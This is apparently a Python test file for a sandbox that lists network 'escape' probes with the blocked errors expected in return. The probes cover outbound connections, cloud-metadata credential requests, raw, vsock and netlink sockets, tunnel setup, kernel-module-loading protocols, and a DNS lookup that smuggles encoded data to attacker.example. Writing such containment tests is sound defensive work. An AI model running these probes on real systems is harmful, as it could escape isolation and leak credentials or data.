"""Ways out by a network."""

from tests.hostile.behaviour import Behaviour

CONNECT = """\
import socket
def connect(family, address):
    with socket.socket(family) as attempted:
        attempted.settimeout(3)
        attempted.connect(address)
"""

NETWORK = (
    Behaviour(
        name="tcp-out",
        does="connects to addresses on the internet, in private networks and the engine's bridge",
        shares=True,
        python=CONNECT
        + """\
for address in ("1.1.1.1", "8.8.8.8", "10.0.0.1", "172.17.0.1", "192.168.1.1", "100.64.0.1"):
    attempt(connect, socket.AF_INET, (address, 443))
""",
        answers=("ENETUNREACH",),
    ),
    Behaviour(
        name="cloud-metadata",
        does="asks the cloud's metadata service for credentials",
        shares=True,
        python=CONNECT + "attempt(connect, socket.AF_INET, ('169.254.169.254', 80))\n"
        "attempt(connect, socket.AF_INET6, ('fd00:ec2::254', 80))",
        answers=("ENETUNREACH", "EADDRNOTAVAIL"),
    ),
    Behaviour(
        name="ipv6-out",
        does="connects over IPv6, link-local and multicast addresses among them",
        shares=True,
        python=CONNECT
        + """\
for address in ("2606:4700:4700::1111", "fe80::1", "ff02::1"):
    attempt(connect, socket.AF_INET6, (address, 443))
""",
        answers=("ENETUNREACH", "EADDRNOTAVAIL", "EINVAL"),
    ),
    Behaviour(
        name="udp-out",
        does="sends datagrams and broadcasts",
        shares=True,
        python="""\
import socket
for address in ("8.8.8.8", "255.255.255.255", "224.0.0.251"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        attempt(out.sendto, b"x", (address, 53))
""",
        answers=("ENETUNREACH",),
    ),
    Behaviour(
        name="dns",
        does="looks a name up, and carries data out in it",
        shares=True,
        python="""\
import socket
for host in ("example.com", "c2VjcmV0.attacker.example"):
    try:
        socket.getaddrinfo(host, 80)
        print("resolved")
    except socket.gaierror:
        print("no answer")
""",
        answers=("no answer",),
    ),
    Behaviour(
        name="host-loopback",
        does="connects to a port that the host listens on at its loopback address",
        shares=True,
        python=CONNECT
        + """\
attempt(connect, socket.AF_INET, ("127.0.0.1", int(os.environ["HOST_PORT"])))
attempt(connect, socket.AF_INET6, ("::1", int(os.environ["HOST_PORT"])))
""",
        answers=("ECONNREFUSED", "EADDRNOTAVAIL"),
    ),
    Behaviour(
        name="host-abstract-socket",
        does="connects to an abstract socket of the host, and looks for others",
        shares=True,
        python=CONNECT
        + """\
attempt(connect, socket.AF_UNIX, "\\0" + os.environ["HOST_ABSTRACT"])
print("seen" if os.environ["HOST_ABSTRACT"] in open("/proc/net/unix").read() else "ECONNREFUSED")
""",
        answers=("ECONNREFUSED",),
    ),
    Behaviour(
        name="raw-sockets",
        does="opens raw and packet sockets",
        shares=True,
        python="""\
import socket
for family, kind, protocol in ((2, 3, 1), (2, 3, 255), (10, 3, 58), (17, 3, 0x300), (17, 2, 0x300)):
    attempt(socket.socket, family, kind, protocol)
""",
        answers=("EPERM",),
    ),
    Behaviour(
        name="vsock",
        does="opens a socket to the hypervisor (AF_VSOCK)",
        shares=True,
        python="for kind in (1, 2, 5): syscall(41, 40, kind, 0)",
        answers=("EPERM",),
    ),
    Behaviour(
        name="other-socket-families",
        does="opens a socket of every other family (AF_ALG, AF_XDP, CAN, Bluetooth, TIPC, RDS, …)",
        shares=True,
        python="""\
for family in range(3, 64):
    if family not in (10, 16):
        syscall(41, family, 2, 0)
        syscall(41, family, 5, 0)
syscall(41, 1 << 32 | 40, 1, 0)
""",
        answers=("EPERM",),
    ),
    Behaviour(
        name="netlink",
        does="speaks to the kernel's routing, audit, netfilter, uevent and crypto interfaces",
        shares=True,
        python="for protocol in range(32): syscall(41, 16, 3, protocol)",
        answers=("EPERM",),
    ),
    Behaviour(
        name="interfaces",
        does="adds an address and a route, and makes a tunnel",
        shares=True,
        python="""\
import fcntl, socket, struct
attempt(socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, 0)
attempt(os.open, "/dev/net/tun", os.O_RDWR)
with socket.socket() as plain:
    for request in (0x8914, 0x8916, 0x890B, 0x89F0, 0x89A0, 0x8946):
        attempt(fcntl.ioctl, plain, request, struct.pack("16sH46x", b"lo", 0))
""",
        answers=("EPERM", "ENOENT", "EINVAL", "ENOTSUP", "ENODEV", "EFAULT", "ENOTTY"),
    ),
    Behaviour(
        name="only-loopback",
        does="lists the network interfaces",
        shares=True,
        python="for found in os.listdir('/sys/class/net'): print(found)",
        # Some kernels put their unused tunnel devices into every network namespace.
        answers=("lo", "tunl0", "sit0", "gre0", "gretap0", "erspan0", "ip_vti0", "ip6_vti0", "ip6tnl0", "ip6gre0"),
    ),
    Behaviour(
        name="rare-protocols",
        does="opens sockets of protocols that load modules of the host's kernel (SCTP, DCCP, MPTCP, L2TP, ping)",
        shares=True,
        python="""\
for family in (2, 10):
    asked = ((1, 132), (5, 132), (6, 33), (1, 262), (2, 136), (2, 115), (2, 1), (2, 58), (1, 1 << 32 | 132))
    for kind, protocol in asked:
        syscall(41, family, kind, protocol)
""",
        answers=("EPERM",),
    ),
    Behaviour(
        name="kernel-tls",
        does="gives a connection to the kernel's TLS and other upper layers, which loads modules (TCP_ULP)",
        shares=True,
        python="""\
import socket
server = socket.create_server(("127.0.0.1", 0))
client = socket.create_connection(server.getsockname())
for level, option in ((6, 31), (6 | 1 << 32, 31), (6, 31 | 1 << 32)):
    for module in (b"tls", b"smc", b"espintcp"):
        syscall(54, client.fileno(), level, option, module, len(module))
""",
        answers=("EPERM",),
    ),
    Behaviour(
        name="urgent-data",
        does="sends urgent data over unix sockets (MSG_OOB, CVE-2025-38236)",
        shares=True,
        python="""\
import socket
left, right = socket.socketpair()
attempt(left.send, b"x", socket.MSG_OOB)
attempt(left.sendmsg, [b"x"], [], socket.MSG_OOB)
syscall(307, left.fileno(), bytes(64), 1, socket.MSG_OOB)
syscall(44, left.fileno(), b"x", 1, 1 << 32 | socket.MSG_OOB, None, 0)
""",
        answers=("EPERM",),
    ),
    Behaviour(
        name="engine-dns",
        does="asks the engine's own resolver at 127.0.0.11 to carry data out",
        shares=True,
        python=CONNECT
        + """\
attempt(connect, socket.AF_INET, ("127.0.0.11", 53))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
    out.settimeout(0.3)
    out.connect(("127.0.0.11", 53))
    out.send(b"x")
    attempt(out.recv, 100)
""",
        answers=("ECONNREFUSED",),
    ),
)
